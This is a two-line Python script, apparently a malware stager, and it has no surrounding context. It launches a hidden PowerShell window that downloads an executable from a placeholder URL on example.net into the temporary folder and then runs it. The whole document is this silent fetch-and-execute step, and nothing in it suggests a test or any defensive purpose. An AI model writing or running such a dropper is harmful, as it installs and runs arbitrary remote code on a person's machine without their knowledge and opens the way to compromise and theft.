import subprocess
subprocess.Popen(['powershell','-WindowStyle','Hidden','-Command',"Invoke-WebRequest -Uri 'https://example.net/a.exe' -OutFile $env:TEMP/a.exe; Start-Process $env:TEMP/a.exe"])
